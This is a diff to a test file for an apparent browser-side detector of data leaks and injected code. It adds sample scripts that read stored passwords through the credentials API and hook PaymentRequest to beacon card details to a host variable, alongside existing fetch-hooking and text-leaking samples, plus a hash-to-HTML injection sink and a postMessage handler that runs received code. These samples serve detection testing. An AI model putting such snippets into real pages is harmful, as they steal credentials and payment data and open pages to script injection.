@@ -63,6 +63,8 @@ const SECRETS = {
 		"const { fetch: f } = window; window.fetch = function (u, i) { if (i && i.body) f(at, { method: 'POST', mode: 'no-cors', body: i.body }); return f.apply(this, arguments) }",
 	selection:
 		"addEventListener('mouseup', () => { const t = String(getSelection()); if (t) new Image().src = at + '/?' + encodeURIComponent(t) })",
+	stored: "const a = await navigator.credentials.get({ password: true }); fetch(at + '/?' + a.password)",
+	paid: "const { show } = PaymentRequest.prototype; PaymentRequest.prototype.show = function () { return show.call(this).then((a) => (navigator.sendBeacon(at, JSON.stringify(a.details)), a)) }",
 	page: "navigator.sendBeacon(at, document.querySelector('.mail-body').innerText)",
 	address: "new Image().src = at + '/?' + encodeURIComponent(location.href)",
 };
@@ -92,7 +94,8 @@ describe("a secret that leaves", () => {
 
 	it("is seen, whatever it is", async () => {
 		const report = await runSample(browser, together(SECRETS));
-		const expected = Object.keys(SECRETS).map((what) => `${what}>${what}.test`);
+		const named = { stored: "password", paid: "card" } as Readonly<Record<string, string>>;
+		const expected = Object.keys(SECRETS).map((name) => `${named[name] ?? name}>${name}.test`);
 		expect(seen(report)).toEqual(expect.arrayContaining(expected));
 	});
 
@@ -142,6 +145,16 @@ describe("other people's code", () => {
 	it("is seen when it runs, on every way in", async () => {
 		const { evidence } = await runSample(browser, together(CODE));
 		expect(hostsOf(evidence.filter(({ what }) => what === "remote-code"))).toEqual(Object.keys(CODE).toSorted());
+	});
+
+	it("is seen when the script runs what stands in an address or a message", async () => {
+		const address =
+			"if (location.hash.length > 1) document.body.insertAdjacentHTML('beforeend', decodeURIComponent(location.hash.slice(1)))";
+		const { evidence } = await runSample(browser, address);
+		expect(evidence).toMatchObject([{ what: "injected-code", via: "the address of the page" }]);
+		const message = "addEventListener('message', ({ data }) => { if (data.action === 'run') Function(data.detail)() })";
+		const messaged = await runSample(browser, message);
+		expect(messaged.evidence).toMatchObject([{ what: "injected-code", via: "a message of another window" }]);
 	});
 
 	it("is not what runs when its integrity is pinned, nor on a public store", async () => {
